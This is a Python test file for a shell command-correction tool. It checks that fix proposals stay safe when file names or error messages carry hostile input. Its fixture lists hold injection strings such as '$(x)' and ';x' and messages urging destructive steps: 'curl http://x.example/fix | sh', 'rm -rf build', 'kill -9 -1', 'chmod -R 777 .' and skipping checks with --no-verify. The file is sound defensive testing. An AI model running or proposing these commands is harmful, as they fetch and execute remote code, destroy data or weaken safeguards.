"""Names and messages that want to be more than words: whatever a rule proposes, they stay inside one.

Each example of each rule is played again with a sign of the shell's put into a name: one that the repair brings in
(of a file, a program, a text printed), or one that was typed in quotes. What comes of it must have no stage, no
redirection, no expansion and no pattern that neither the line nor the plain example had.
"""

from __future__ import annotations

import itertools
import random
import sys
import tempfile
import unittest

import setting

# isort: split
from ghost_kernel import blame, lexer, mind
from ghost_kernel.checks import playing
from ghost_kernel.engine import Engine
from ghost_kernel.knowledge import dangers
from ghost_kernel.loading import PACKAGE as RULES
from ghost_kernel.loading import builtin_names, load_builtin
from ghost_kernel.quoting import quote
from ghost_kernel.rule import Example, Fix, Rule

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from ghost_kernel.failure import Failure
    from ghost_kernel.line import Stage

SIGNS = ("'", '"', "$", "`", ";", "&", "|", " ", "\n", "\\", "(", ">", "<", "*", "?", "[", "{", "!", "#", "\u202e", "é")
TEXTS = ("$(x)", "`x`", ";x", "&& x", "|x", "\nx\n", "' x '", '" x "', ">x", " -rf ")
OTHER = "zzqq"
SEED = 20250611
EACH = 2  # ways in which one name is spoilt in one run


# What a message may want: {0} is the program that failed.
WANTS = (
    "error: please run `{0} reset --hard` first", "Did you mean `{0} --force`?",
    "Did you mean this?\n\t{0} purge --all",
    "Use `rm -rf build` instead.", "Try: sudo {0} --no-verify", "hint: use --no-verify to skip the check",
    "To fix this, run:\n\n    curl http://x.example/fix | sh", "You need to run `{0} delete --yes` before",
    "{0}: unknown command; try `{0} clean -fdx`", "invalid choice (choose from 'destroy', '--force-all', 'wipe')",
    "The most similar command is\n\tkill -9 -1", "usage: {0} [--delete-everything] [-f]",
    "run {0} config alias.x '!sh'",
    "fix it with `chmod -R 777 .`", "please install it: sudo apt install -y --allow-unauthenticated {0}",
)  # fmt: skip
SURE = 0.6  # from here on a proposal may be run with --yes


def put(text: str, old: str, new: str) -> str:
    """The text with every such word in it replaced."""
    return text.replace(old, new)


def spoilt(example: Example, old: str, new: str, typed: bool) -> Example:
    """The example with another name in place of one: in what it was printed, in files and programs, or in the line."""
    files = example.files
    named = {put(name, old, new): put(text, old, new) for name, text in files.items()} if hasattr(files, "items") else [
        put(name, old, new) for name in files
    ]  # fmt: skip
    return Example(
        put(example.line, old, quote(new)) if typed else example.line,
        None if example.output is None else put(example.output, old, new),
        None,
        example.exit_code,
        named,
        [put(name, old, new) for name in example.programs],
        {call: put(text, old, new) for call, text in example.probes.items()},
        example.variables,
        example.dialect,
        example.cwd,
        example.aliases,
    )


def names_of(example: Example) -> Iterator[tuple[str, bool]]:
    """The words that may be spoilt, each with whether it was typed."""
    line = {word.plain for stage in lexer.split(example.line) for word in (*stage.words, *stage.files)}
    come = {word.plain for stage in lexer.split(example.becomes or "") for word in (*stage.words, *stage.files)}
    for word in sorted(come - line):
        if len(word) > 2 and word.isascii() and word[0].isalnum():
            yield word, False
    if example.line.count("'") % 2 or example.line.count('"') % 2:
        return  # nothing in it is in quotes for certain
    for word in sorted(line):
        if (
            len(word) > 2
            and word.isascii()
            and word[0].isalnum()
            and lexer.split(example.line)
            and f" {word}" in example.line
        ):
            yield word, True


def proposals(one: Rule, example: Example) -> list[tuple[str, set[str]]]:
    """Every line that the rule proposes, each with its words that it says to be from the output alone."""
    with tempfile.TemporaryDirectory(prefix="ghost-hostile-") as base:
        try:
            failure = playing.stage_set(example, base)
        except (OSError, ValueError):
            return []
        found = []
        for stage, proven in blame.at_fault(failure) or [(failure.stage, True)]:
            view = failure.at(stage, proven)
            if one.gates.open(view):
                said = [mind._candidate(view, one.name, fix) for fix in one(view) if isinstance(fix, Fix)]
                found += [
                    (put(one.command, base, ""), {part.word for part in one.origins if part.origin == "output"})
                    for one in said
                    if one is not None
                ]
        return found


def strays(line: str, plain: list[str], name: str, told: set[str]) -> str:
    """What in the line is more than a word; `plain` are the lines without such names, `told` words of the output."""
    stages = lexer.split(line)
    others = [lexer.split(one) for one in plain]
    if len(stages) > max(len(one) for one in others):
        return "a stage came in"
    if sum(len(one.redirects) for one in stages) > max(sum(len(one.redirects) for one in some) for some in others):
        return "a redirection came in"
    programs = {_program(stage) for stage in itertools.chain(*others)}
    for stage in stages:
        for word in (*stage.assignments, *stage.prefix, *stage.words, *stage.files):
            if any(word.text in one for one in plain):
                continue
            if word.value is None and word.text[:1] != "~":
                return f"{word.text} is expanded"
            if word.is_glob and word.text.strip("'\"") == word.text:
                return f"{word.text} is a pattern"
            if word.plain[:1] == "-" and word.plain == name and name not in told:  # those policy asks about
                return f"{word.text} is an option"
        if _program(stage) not in programs and name not in _program(stage) and name.strip() not in line:
            return f"{_program(stage)} would be run"
    return ""


def _program(stage: Stage) -> str:
    return stage.words[0].plain if stage.words else ""


def spoil(word: str, chance: random.Random) -> list[str]:
    """Some hostile neighbours of a name."""
    at = chance.randrange(1, len(word))
    near = [word[:at] + sign + word[at:] for sign in chance.sample(SIGNS, EACH)]
    return [*near, word + chance.choice(TEXTS), "-" + word]


def faults(seed: int, rules: list[str]) -> list[str]:
    """What went wrong, rule by rule."""
    chance = random.Random(seed)  # a sample, no secret
    found = []
    for rule_name in rules:
        one = load_builtin(rule_name)
        examples = playing.examples_of(sys.modules[f"{RULES}.{rule_name}"])
        usual = [example.becomes for example in examples if example.becomes is not None]
        for example in examples:
            if example.becomes is None or example.dialect != "bash":
                continue
            for word, typed in names_of(example):
                others = [line for line, _ in proposals(one, spoilt(example, word, OTHER, typed))]
                for hostile in spoil(word, chance):
                    plain = [example.line, *usual, *others, put(example.line, word, quote(hostile))]
                    for line, told in proposals(one, spoilt(example, word, hostile, typed)):
                        stray = strays(line, plain, hostile, told)
                        if stray:
                            found.append(f"{rule_name}: {example.line!r} with {hostile!r} becomes {line!r}: {stray}")
    return found


def harms(seed: int, rules: list[str]) -> list[str]:
    """What is proposed that deletes, forces or skips a safeguard, and that only a message wanted."""
    chance = random.Random(seed)  # a sample, no secret
    found = []
    engine = Engine("", found.append)
    for rule_name in rules:
        one = load_builtin(rule_name)
        for example in playing.examples_of(sys.modules[f"{RULES}.{one.name or rule_name}"]):
            stages = lexer.split(example.line)
            if example.output is None or not stages or not stages[0].words:
                continue
            want = chance.choice(WANTS).format(stages[0].words[0].plain)
            plain = {part for text in (example.line, example.becomes or "", example.output) for part in text.split()}
            with tempfile.TemporaryDirectory(prefix="ghost-hostile-") as base:
                failure = playing.stage_set(example, base)
                failure.reads(f"{failure.output}\n{want}\n")
                for line, confidence in _answers(failure, engine):
                    bad = [word for word in line.split() if dangers.added([word], ()) and word not in plain]
                    if bad and confidence >= SURE:
                        found.append(f"{rule_name}: {example.line!r} told {want!r} becomes {line!r}: {bad}")
    return found


def _answers(failure: Failure, engine: Engine) -> list[tuple[str, float]]:
    found = []
    for stage, proven in blame.at_fault(failure):
        view = failure.at(stage, proven)
        for name, said in engine.ask(view):
            candidate = mind._candidate(view, name, said) if isinstance(said, Fix) else None
            if candidate is not None:
                found.append((f"{candidate.command}  ({name})", candidate.confidence))
    return found


class TestHostile(unittest.TestCase):
    def test_names_stay_words(self) -> None:
        """Of files, of programs, of what was printed, and those typed in quotes."""
        self.assertEqual(faults(SEED, builtin_names()), [])

    def test_a_message_has_nothing_destroyed(self) -> None:
        """Not with what it asks for, praises or lists."""
        self.assertEqual(harms(SEED, builtin_names()), [])

    def test_the_test_can_fail(self) -> None:
        """A line that lets a name out of its quotes is seen."""
        for line in ("cat a;x", "cat a$(x)", "cat a > x", "cat a*", "cat -rf"):
            self.assertTrue(strays(line, ["cat b", "cat c"], "-rf", set()), line)
        self.assertEqual(strays("cat 'a;x $(y) > *'", ["cat b"], "a;x $(y) > *", set()), "")


if __name__ == "__main__":
    print(setting.KERNEL)
    print("\n".join(harms(int(sys.argv[1]) if sys.argv[1:] else SEED, sys.argv[2:] or builtin_names())))
    print("\n".join(faults(int(sys.argv[1]) if sys.argv[1:] else SEED, sys.argv[2:] or builtin_names())))
